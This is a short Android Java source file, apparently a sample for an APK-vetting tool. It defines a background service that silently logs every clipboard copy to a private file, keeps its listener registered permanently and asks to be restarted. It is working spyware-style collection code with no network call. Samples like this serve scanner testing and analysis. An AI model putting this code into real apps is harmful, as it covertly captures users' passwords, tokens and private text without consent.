package org.apkvet.samples.collector;

import android.app.Service;
import android.content.ClipboardManager;
import android.content.Intent;
import android.os.IBinder;
import java.io.FileWriter;
import java.io.IOException;

/** Listens for every copy from the background; nothing ever removes the listener. */
public class CollectService extends Service implements ClipboardManager.OnPrimaryClipChangedListener {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        ClipboardManager clipboard = (ClipboardManager) getSystemService("clipboard");
        clipboard.addPrimaryClipChangedListener(this);
        return 1;
    }

    @Override
    public void onPrimaryClipChanged() {
        android.text.ClipboardManager legacy = (android.text.ClipboardManager) getSystemService("clipboard");
        try (FileWriter log = new FileWriter(getFilesDir() + "/clips", true)) {
            log.write(legacy.getText().toString());
        } catch (IOException ignored) {
            // Lost.
        }
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
